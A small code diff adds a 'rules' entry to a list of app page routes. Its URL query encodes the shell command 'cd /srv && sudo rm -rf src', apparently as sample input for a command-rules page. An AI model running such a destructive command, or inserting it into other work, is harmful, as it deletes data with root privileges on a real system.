@@ -18,6 +18,7 @@ const PAGES = [
 	{ name: "keys", path: "/keys" },
 	{ name: "checks", path: "/checks" },
 	{ name: "discovery", path: "/discovery" },
+	{ name: "rules", path: "/rules?command=cd+%2Fsrv+%26%26+sudo+rm+-rf+src" },
 	{ name: "lint", path: "/lint" },
 	{ name: "revisions", path: "/revisions" },
 	{ name: "api", path: "/docs/api", isPublic: true },
